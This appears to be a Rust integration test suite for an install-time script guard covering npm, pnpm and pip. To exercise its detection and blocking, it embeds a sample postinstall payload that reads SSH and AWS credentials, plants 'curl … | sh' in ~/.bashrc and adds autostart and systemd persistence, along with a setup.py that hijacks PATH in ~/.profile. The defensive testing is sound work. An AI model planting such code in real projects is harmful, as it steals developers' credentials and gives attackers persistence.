//! Install-time code with the real npm and pip (nothing from the network): `check` lists what
//! a command will run before anything runs; the `[scripts]` policy asks, approves (remembered
//! in the user policy), holds code back with the tool's own flag, or refuses; and the watch
//! names every startup location an install changed and every credential store it read, on the
//! terminal, in the audit record, in `log` and in the OCSF export — and nothing at all for an
//! ordinary install.

use std::path::Path;

use crate::pty::on_pty;
use crate::sandbox::{Sandbox, assert_code, run, text};

/// The five things the "interview task" payload does (Contagious Interview style), from the
/// project's own `postinstall`: reads an SSH key and AWS credentials, appends to ~/.bashrc,
/// writes an autostart entry and a systemd user unit (both under ~/.config, as malware writes
/// them whatever $XDG_CONFIG_HOME says).
const PAYLOAD: &str = r"const fs = require('fs'), os = require('os'), path = require('path');
const h = os.homedir();
fs.readFileSync(path.join(h, '.ssh/id_rsa'));
fs.readFileSync(path.join(h, '.aws/credentials'));
fs.appendFileSync(path.join(h, '.bashrc'), 'curl -s http://203.0.113.7/x | sh\n');
fs.mkdirSync(path.join(h, '.config/autostart'), {recursive: true});
fs.writeFileSync(path.join(h, '.config/autostart/updater.desktop'), '[Desktop Entry]\nExec=/tmp/updater\n');
fs.mkdirSync(path.join(h, '.config/systemd/user'), {recursive: true});
fs.writeFileSync(path.join(h, '.config/systemd/user/updater.service'), '[Service]\nExecStart=/tmp/updater\n');
";

/// The five paths, as every report names them.
const FIVE: [&str; 5] = [
    "~/.ssh/id_rsa",
    "~/.aws/credentials",
    "~/.bashrc",
    "~/.config/autostart/updater.desktop",
    "~/.config/systemd/user/updater.service",
];

/// A home with what such a payload looks for.
fn home_with_secrets(sb: &Sandbox) {
    let h = sb.path("home");
    for d in [".ssh", ".aws"] {
        std::fs::create_dir_all(h.join(d)).unwrap();
    }
    std::fs::write(
        h.join(".ssh/id_rsa"),
        "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    )
    .unwrap();
    std::fs::write(h.join(".ssh/id_rsa.pub"), "ssh-ed25519 AAAA test\n").unwrap();
    std::fs::write(h.join(".ssh/known_hosts"), "").unwrap();
    std::fs::write(h.join(".aws/credentials"), "[default]\n").unwrap();
    std::fs::write(h.join(".bashrc"), "# my bashrc\n").unwrap();
}

fn interview_project(sb: &Sandbox) {
    let w = sb.work();
    std::fs::create_dir_all(w.join("scripts")).unwrap();
    std::fs::write(
        w.join("package.json"),
        "{\n  \"name\": \"take-home-task\",\n  \"version\": \"1.0.0\",\n  \"scripts\": {\n    \"postinstall\": \"node scripts/setup.js\"\n  }\n}\n",
    )
    .unwrap();
    std::fs::write(w.join("scripts/setup.js"), PAYLOAD).unwrap();
}

fn finished(sb: &Sandbox) -> serde_json::Value {
    sb.log_records()
        .into_iter()
        .rfind(|r| r["event"] == "finished")
        .expect("a finished record")
}

#[test]
fn a_postinstall_that_steals_and_persists_is_shown_before_and_named_after_npm_install() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    interview_project(&sb);

    // Before anything runs, check names the script and its command.
    let out = run(sb.ig(&["check", "--", "npm", "install"]));
    assert_code(&out, 1);
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("install-time code (runs during the install):"),
        "{stdout}"
    );
    assert!(
        stdout.contains("take-home-task@1.0.0  postinstall: node scripts/setup.js"),
        "{stdout}"
    );
    assert!(stdout.contains("package.json:5]"), "{stdout}");
    assert!(stdout.contains("[project-script]"), "{stdout}");
    let out = run(sb.ig(&["check", "--json", "--", "npm", "install"]));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let s = &doc["scripts"][0];
    assert_eq!(
        (
            s["owner"].as_str(),
            s["event"].as_str(),
            s["command"].as_str(),
            s["status"].as_str()
        ),
        (
            Some("project"),
            Some("postinstall"),
            Some("node scripts/setup.js"),
            Some("ask")
        )
    );
    assert_eq!(
        std::fs::read_to_string(sb.path("home/.bashrc")).unwrap(),
        "# my bashrc\n",
        "check runs nothing"
    );

    // Without a terminal, [scripts] non-interactive (default "allow") lets it run, watched.
    let out = run(sb.cmd("npm", &["install", "--no-audit", "--no-fund"]));
    assert_code(&out, 0);
    let err = text(&out.stderr);
    assert!(err.contains("while `npm` ran, installguard saw 5"), "{err}");
    for p in FIVE {
        assert!(err.contains(p), "{p} is not named on the terminal:\n{err}");
    }
    let rec = finished(&sb);
    let behaviour = rec["behaviour"].as_array().unwrap();
    let paths: Vec<&str> = behaviour
        .iter()
        .map(|b| b["path"].as_str().unwrap())
        .collect();
    for p in FIVE {
        assert!(paths.contains(&p), "{p} not in the record: {paths:?}");
    }
    let find = |p: &str| behaviour.iter().find(|b| b["path"] == p).unwrap();
    assert_eq!(find("~/.ssh/id_rsa")["change"], "read");
    assert_eq!(find("~/.ssh/id_rsa")["technique"], "T1552.004");
    assert_eq!(find("~/.bashrc")["change"], "modified");
    assert_eq!(find("~/.bashrc")["technique"], "T1546.004");
    assert!(
        find("~/.bashrc")["detail"]
            .as_str()
            .unwrap()
            .contains("curl -s http://203.0.113.7/x | sh")
    );
    assert_eq!(
        find("~/.config/autostart/updater.desktop")["change"],
        "created"
    );
    assert_eq!(
        find("~/.config/systemd/user/updater.service")["technique"],
        "T1543.002"
    );
    assert_eq!(rec["watch"]["complete"], true);
    assert_eq!(rec["scripts"][0]["status"], "allowed");

    // log shows them prominently, the OCSF export maps them, verify covers them.
    let out = run(sb.ig(&["log", "--behaviour"]));
    let log = text(&out.stdout);
    assert!(log.contains("!! BEHAVIOUR"), "{log}");
    for p in FIVE {
        assert!(log.contains(p), "{p}: {log}");
    }
    let out = run(sb.ig(&["log", "--format", "ocsf", "-n", "1"]));
    let events: Vec<serde_json::Value> = text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.iter().filter(|e| e["class_uid"] == 1001).count(), 5);
    let techniques: Vec<&str> = events
        .iter()
        .filter(|e| e["class_uid"] == 2004)
        .map(|e| {
            e["finding_info"]["attacks"][0]["technique"]["uid"]
                .as_str()
                .unwrap()
        })
        .collect();
    assert_eq!(techniques.len(), 5, "{techniques:?}");
    assert!(techniques.contains(&"T1547.013"));
    assert_code(&run(sb.ig(&["audit", "verify"])), 0);
    // Editing what the watch saw breaks the chain.
    let log_file = sb.path("state/installguard/audit.jsonl");
    let tampered = std::fs::read_to_string(&log_file)
        .unwrap()
        .replace("updater.service", "harmless.service");
    std::fs::write(&log_file, tampered).unwrap();
    assert_code(&run(sb.ig(&["audit", "verify"])), 5);
}

#[test]
fn no_false_alarm_for_a_harmless_postinstall_and_a_token_in_npmrc() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    std::fs::write(
        sb.path("home/.npmrc"),
        "//registry.npmjs.org/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\n",
    )
    .unwrap();
    std::fs::write(
        sb.work().join("package.json"),
        r#"{"name": "ordinary", "version": "1.0.0", "scripts": {"postinstall": "node -e 1"}}"#,
    )
    .unwrap();
    let out = run(sb.cmd("npm", &["install", "--no-audit", "--no-fund"]));
    assert_code(&out, 0);
    let err = text(&out.stderr);
    assert!(!err.contains("installguard saw"), "{err}");
    let rec = finished(&sb);
    assert!(rec.get("behaviour").is_none(), "{rec}");
    assert_eq!(rec["watch"]["complete"], true, "{rec}");
    assert!(rec["watch"]["watched"].as_u64().unwrap() >= 2, "{rec}");
}

#[test]
fn a_lockfile_dependency_with_an_install_script_is_listed_with_its_version() {
    let sb = Sandbox::new();
    std::fs::write(
        sb.work().join("package.json"),
        r#"{"name": "app", "version": "1.0.0", "dependencies": {"esbuild": "^0.28.0"}}"#,
    )
    .unwrap();
    std::fs::write(
        sb.work().join("package-lock.json"),
        r#"{
  "name": "app",
  "lockfileVersion": 3,
  "packages": {
    "": {"name": "app", "version": "1.0.0", "dependencies": {"esbuild": "^0.28.0"}},
    "node_modules/esbuild": {
      "version": "0.28.2",
      "resolved": "https://registry.npmjs.org/esbuild/-/esbuild-0.28.2.tgz",
      "integrity": "sha512-AAAA",
      "hasInstallScript": true
    }
  }
}
"#,
    )
    .unwrap();
    let out = run(sb.ig(&["check", "--", "npm", "ci"]));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("esbuild@0.28.2  install script  [")
            && stdout.contains("package-lock.json:6]"),
        "{stdout}"
    );
    assert!(stdout.contains("[install-script]"), "{stdout}");
    let out = run(sb.ig(&["check", "--json", "--", "npm", "ci"]));
    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let s = &doc["scripts"][0];
    assert_eq!(
        (
            s["package"].as_str(),
            s["version"].as_str(),
            s["kind"].as_str()
        ),
        (Some("esbuild"), Some("0.28.2"), Some("install-script"))
    );
    // The allow-list lets it run; check says by what.
    std::fs::create_dir_all(sb.path("config/installguard")).unwrap();
    std::fs::write(
        sb.path("config/installguard/policy.toml"),
        "[scripts]\nallow = [\"pkg:npm/esbuild@>=0.28.0,<0.29.0\"]\n",
    )
    .unwrap();
    let out = run(sb.ig(&["check", "--", "npm", "ci"]));
    assert_code(&out, 0);
    let stdout = text(&out.stdout);
    assert!(stdout.contains("approved esbuild@0.28.2"), "{stdout}");
    assert!(
        stdout.contains("[scripts] allow `pkg:npm/esbuild@>=0.28.0,<0.29.0`"),
        "{stdout}"
    );
}

/// A venv with the real pip (shared with the pip tests).
fn pip_sandbox() -> Sandbox {
    let mut sb = Sandbox::new();
    sb.extra_path.push(crate::pip::venv().join("bin"));
    sb
}

/// A local project whose `setup.py` appends to ~/.profile, built by a minimal in-tree PEP 517
/// backend that runs it (as setuptools' legacy backend does) and writes a one-module wheel:
/// nothing to fetch, so it builds offline.
fn profile_project(dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(
        dir.join("setup.py"),
        "import os\nwith open(os.path.expanduser('~/.profile'), 'a') as f:\n    f.write('export PATH=/tmp/evil:$PATH\\n')\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("pyproject.toml"),
        "[project]\nname = \"igtest-local\"\nversion = \"1.0.0\"\ndependencies = []\n\n[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
    )
    .unwrap();
    std::fs::write(
        dir.join("backend.py"),
        r#"import base64, hashlib, os, runpy, zipfile

def _line(path, data):
    d = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{path},sha256={d},{len(data)}"

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    runpy.run_path("setup.py")
    dist = "igtest_local-1.0.0.dist-info"
    files = {
        "igtest_local.py": b"VERSION = '1.0.0'\n",
        f"{dist}/METADATA": b"Metadata-Version: 2.1\nName: igtest-local\nVersion: 1.0.0\n",
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: igtest\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    files[f"{dist}/RECORD"] = ("\n".join([_line(p, d) for p, d in files.items()] + [f"{dist}/RECORD,,"]) + "\n").encode()
    name = "igtest_local-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as z:
        for p, d in files.items():
            z.writestr(p, d)
    return name
"#,
    )
    .unwrap();
}

#[test]
fn a_setup_py_that_appends_to_profile_is_reported_after_pip_install_dot() {
    let sb = pip_sandbox();
    profile_project(&sb.work());
    std::fs::write(sb.path("home/.profile"), "# profile\n").unwrap();
    let out = run(sb.ig(&["check", "--", "pip", "install", "."]));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("install-time code (runs during the install):"),
        "{stdout}"
    );
    assert!(stdout.contains("build: ./setup.py via backend"), "{stdout}");
    let target = sb.path("target");
    let out = run(sb.cmd(
        "pip",
        &[
            "install",
            "--no-index",
            "--target",
            target.to_str().unwrap(),
            ".",
        ],
    ));
    assert_code(&out, 0);
    assert!(target.join("igtest_local.py").exists());
    let err = text(&out.stderr);
    assert!(
        err.contains("modified ~/.profile (shell startup file, T1546.004): 1 line added: export PATH=/tmp/evil:$PATH"),
        "{err}"
    );
    let rec = finished(&sb);
    assert_eq!(rec["behaviour"][0]["path"], "~/.profile");
    assert_eq!(rec["scripts"][0]["kind"], "build");
    assert_eq!(rec["scripts"][0]["owner"], "project");
}

#[test]
fn on_finding_fail_turns_what_the_watch_saw_into_exit_6() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    interview_project(&sb);
    std::fs::write(
        sb.work().join(".installguard.toml"),
        "[watch]\non-finding = \"fail\"\n",
    )
    .unwrap();
    let out = run(sb.cmd("npm", &["install", "--no-audit", "--no-fund"]));
    assert_code(&out, 6);
    assert!(text(&out.stderr).contains("[watch] on-finding = \"fail\""));
}

#[test]
fn scripts_off_adds_ignore_scripts_and_the_payload_never_runs() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    interview_project(&sb);
    // A project may tighten: its own scripts off.
    std::fs::write(
        sb.work().join(".installguard.toml"),
        "[scripts]\nproject = \"off\"\n",
    )
    .unwrap();
    let out = run(sb.cmd("npm", &["install", "--no-audit", "--no-fund"]));
    assert_code(&out, 0);
    let err = text(&out.stderr);
    assert!(
        err.contains("installguard adds --ignore-scripts to the npm command line"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(sb.path("home/.bashrc")).unwrap(),
        "# my bashrc\n"
    );
    let rec = finished(&sb);
    assert_eq!(rec["added_args"][0], "--ignore-scripts");
    assert_eq!(rec["argv"][0], "install", "argv stays what was typed");
    assert_eq!(rec["scripts"][0]["status"], "off");
    assert!(rec.get("behaviour").is_none());
    // Asking for the opposite on the command line is refused, not silently overridden.
    let out = run(sb.cmd("npm", &["install", "--no-ignore-scripts"]));
    assert_code(&out, 3);
    assert!(text(&out.stderr).contains("--no-ignore-scripts"));
}

#[test]
fn a_machine_policy_can_require_the_allow_list() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    interview_project(&sb);
    let machine = sb.path("etc-policy.toml");
    std::fs::write(
        &machine,
        "lock = [\"scripts\"]\n[scripts]\ndependencies = \"block\"\nproject = \"block\"\nallow = [\"pkg:npm/esbuild\"]\n",
    )
    .unwrap();
    std::fs::set_permissions(
        &machine,
        std::os::unix::fs::PermissionsExt::from_mode(0o644),
    )
    .unwrap();
    let with_machine = |args: &[&str]| {
        let mut c = sb.cmd("npm", args);
        c.env("INSTALLGUARD_TEST_MACHINE_POLICY", &machine);
        c
    };
    // Not on the machine's list: refused before npm runs, nothing to answer.
    let out = run(with_machine(&["install"]));
    assert_code(&out, 3);
    let err = text(&out.stderr);
    assert!(
        err.contains("[scripts] project = \"block\" (machine policy"),
        "{err}"
    );
    assert_eq!(
        std::fs::read_to_string(sb.path("home/.bashrc")).unwrap(),
        "# my bashrc\n"
    );
    // The user cannot approve around it: the machine locks [scripts].
    std::fs::create_dir_all(sb.path("config/installguard")).unwrap();
    std::fs::write(
        sb.path("config/installguard/policy.toml"),
        "[scripts]\nproject = \"allow\"\n",
    )
    .unwrap();
    let out = run(with_machine(&["install"]));
    assert_code(&out, 2);
    assert!(text(&out.stderr).contains("`scripts.project` is locked by the machine policy"));
}

#[test]
fn without_a_terminal_non_interactive_block_refuses_asked_about_code() {
    let sb = Sandbox::new();
    home_with_secrets(&sb);
    interview_project(&sb);
    let out = run({
        let mut c = sb.cmd("npm", &["install"]);
        c.env("INSTALLGUARD_POLICY_SET", "scripts.non-interactive=block");
        c
    });
    assert_code(&out, 4);
    assert!(text(&out.stderr).contains("[scripts] non-interactive = \"block\""));
    assert_eq!(
        std::fs::read_to_string(sb.path("home/.bashrc")).unwrap(),
        "# my bashrc\n"
    );
}

#[test]
fn approving_at_the_prompt_is_remembered_for_this_project_until_its_scripts_change() {
    let sb = Sandbox::new();
    std::fs::write(
        sb.work().join("package.json"),
        r#"{"name": "ok", "version": "1.0.0", "scripts": {"postinstall": "node -e 1"}}"#,
    )
    .unwrap();
    // Cancel (Enter), Run once (j), Approve (jj).
    let (code, screen) = on_pty(
        sb.cmd("npm", &["install", "--no-audit", "--no-fund"]),
        Some(("Run this install-time code?", b"jj\r")),
    );
    assert_eq!(code, Some(0), "{screen}");
    assert!(screen.contains("postinstall: node -e 1"), "{screen}");
    assert!(
        screen.contains("Approve it (remembered in your policy)"),
        "{screen}"
    );
    let policy = std::fs::read_to_string(sb.path("config/installguard/policy.toml")).unwrap();
    assert!(
        policy.contains("[scripts]") && policy.contains("projects = ["),
        "{policy}"
    );
    // Approved: the next install asks nothing (no terminal needed) and logs the approval.
    let out = run(sb.cmd("npm", &["install", "--no-audit", "--no-fund"]));
    assert_code(&out, 0);
    assert!(
        !text(&out.stderr).contains("second look"),
        "{}",
        text(&out.stderr)
    );
    let rec = finished(&sb);
    assert_eq!(rec["scripts"][0]["status"], "approved");
    assert!(
        rec["loosened"].to_string().contains("approved for"),
        "{rec}"
    );
    // The script changed: asked again.
    std::fs::write(
        sb.work().join("package.json"),
        r#"{"name": "ok", "version": "1.0.0", "scripts": {"postinstall": "node -e 2"}}"#,
    )
    .unwrap();
    let out = run(sb.ig(&["check", "--", "npm", "install"]));
    assert_code(&out, 1);
}

/// pnpm runs the project's own lifecycle scripts on `pnpm install` and holds dependencies'
/// back itself: check says both, and `[scripts] project = "off"` adds pnpm's own
/// `--ignore-scripts` to the real pnpm's command line.
#[test]
fn pnpm_project_scripts_are_listed_and_held_back_with_its_own_flag() {
    let mut sb = Sandbox::new();
    sb.extra_path.push(crate::tools::js_tool("pnpm"));
    std::fs::write(
        sb.work().join("package.json"),
        r#"{"name": "app", "version": "1.0.0", "scripts": {"postinstall": "node -e \"require('fs').writeFileSync('ran', '')\""}}"#,
    )
    .unwrap();
    let out = run(sb.ig(&["check", "--", "pnpm", "install"]));
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("app@1.0.0  postinstall: node -e"),
        "{stdout}"
    );
    assert!(stdout.contains("onlyBuiltDependencies"), "{stdout}");
    let pnpm = |sb: &Sandbox| {
        let mut c = sb.cmd("pnpm", &["install", "--store-dir", "../cache/pnpm-store"]);
        c.env("pnpm_config_update_notifier", "false");
        c
    };
    std::fs::write(
        sb.work().join(".installguard.toml"),
        "[scripts]\nproject = \"off\"\n",
    )
    .unwrap();
    let out = run(pnpm(&sb));
    assert_code(&out, 0);
    assert!(
        text(&out.stderr).contains("installguard adds --ignore-scripts to the pnpm command line"),
        "{}",
        text(&out.stderr)
    );
    assert!(!sb.work().join("ran").exists(), "the postinstall ran");
    assert_eq!(finished(&sb)["added_args"][0], "--ignore-scripts");
    // In a fresh project, no terminal, the default policy: it runs (watched), as pnpm runs it.
    let fresh = {
        let mut fresh = Sandbox::new();
        fresh.extra_path.push(crate::tools::js_tool("pnpm"));
        std::fs::copy(
            sb.work().join("package.json"),
            fresh.work().join("package.json"),
        )
        .unwrap();
        fresh
    };
    let out = run(pnpm(&fresh));
    assert_code(&out, 0);
    assert!(fresh.work().join("ran").exists(), "{}", text(&out.stderr));
}

/// A project depending on a package whose own dependency runs a postinstall (which writes
/// `marker`), on a registry served on 127.0.0.1.
fn resolved_tree(sb: &Sandbox, marker: &Path) -> crate::registry::Registry {
    std::fs::write(
        sb.work().join("package.json"),
        "{\n  \"name\": \"proj\",\n  \"version\": \"1.0.0\"\n}\n",
    )
    .unwrap();
    crate::registry::Registry::start_tree(
        &sb.path("cache/reg"),
        &[
            crate::registry::Pkg::new("igtest-app").dep("igtest-builder", "^1.0.0"),
            crate::registry::Pkg::new("igtest-builder")
                .postinstall(&format!("touch {}", marker.display())),
        ],
    )
}

/// The whole-tree resolution (issue 14) feeds the same list: a transitive dependency's
/// install script, invisible to the command line, is listed by `check` with its version and
/// who pulls it in, judged by `[scripts]`, held back with npm's own flag on every step of the
/// checked install, and run when the allow-list names it.
#[test]
fn a_transitive_install_script_found_by_resolution_is_listed_judged_and_gated() {
    let sb = Sandbox::new();
    let marker = sb.path("postinstall-ran");
    let reg = resolved_tree(&sb, &marker);
    let install = ["install", "--registry", &reg.url, "igtest-app"];
    let check = |resolve: bool| {
        let mut a = vec!["check", "--json"];
        if resolve {
            a.push("--resolve");
        }
        a.push("--");
        a.push("npm");
        a.extend(install);
        let out = run(sb.ig(&a));
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        doc["scripts"].as_array().unwrap().clone()
    };
    // Names only: npm resolves igtest-app's dependencies itself, so their code is unseen.
    let unresolved = check(false);
    assert_eq!(unresolved.len(), 1, "{unresolved:?}");
    assert_eq!(unresolved[0]["kind"], "unseen");
    // Resolved: the dependency, its version and who requires it; the unseen note is gone.
    let resolved = check(true);
    assert_eq!(resolved.len(), 1, "{resolved:?}");
    let s = &resolved[0];
    assert_eq!(
        (
            s["package"].as_str(),
            s["version"].as_str(),
            s["kind"].as_str(),
            s["owner"].as_str(),
            s["status"].as_str(),
            s["origin"].as_str(),
        ),
        (
            Some("igtest-builder"),
            Some("1.0.0"),
            Some("install-script"),
            Some("dependency"),
            Some("ask"),
            Some("npm resolution: required by igtest-app"),
        )
    );
    let mut a = vec!["check", "--resolve", "--", "npm"];
    a.extend(install);
    let human = text(&run(sb.ig(&a)).stdout);
    assert!(
        human.contains("ask      igtest-builder@1.0.0  install script  [npm resolution: required by igtest-app]"),
        "{human}"
    );
    assert!(!marker.exists(), "check ran the script");

    // `[scripts] dependencies = "off"`: installed, and the script held back by npm itself.
    std::fs::write(
        sb.work().join(".installguard.toml"),
        "[scripts]\ndependencies = \"off\"\n",
    )
    .unwrap();
    let out = run(sb.cmd("npm", &install));
    assert_code(&out, 0);
    assert!(
        text(&out.stderr).contains("installguard adds --ignore-scripts to the npm command line"),
        "{}",
        text(&out.stderr)
    );
    assert!(
        sb.work()
            .join("node_modules/igtest-builder/package.json")
            .exists(),
        "{}",
        text(&out.stderr)
    );
    assert!(!marker.exists(), "the held-back script ran");
    let rec = finished(&sb);
    assert_eq!(rec["added_args"][0], "--ignore-scripts");
    assert_eq!(rec["scripts"][0]["package"], "igtest-builder");
    assert_eq!(rec["scripts"][0]["status"], "off");
    assert_eq!(rec["resolution"]["status"], "resolved", "{rec:#}");

    // In a fresh project whose user policy allows it by version range: it runs, watched.
    let sb = Sandbox::new();
    let marker = sb.path("postinstall-ran");
    let reg = resolved_tree(&sb, &marker);
    std::fs::create_dir_all(sb.path("config/installguard")).unwrap();
    std::fs::write(
        sb.path("config/installguard/policy.toml"),
        "[scripts]\ndependencies = \"block\"\nallow = [\"pkg:npm/igtest-builder@>=1.0.0,<2.0.0\"]\n",
    )
    .unwrap();
    let out = run(sb.cmd("npm", &["install", "--registry", &reg.url, "igtest-app"]));
    assert_code(&out, 0);
    assert!(marker.exists(), "{}", text(&out.stderr));
    let rec = finished(&sb);
    assert_eq!(rec["scripts"][0]["status"], "approved");
    assert_eq!(rec["watch"]["complete"], true, "{rec:#}");
    assert!(rec.get("behaviour").is_none(), "{rec:#}");
}
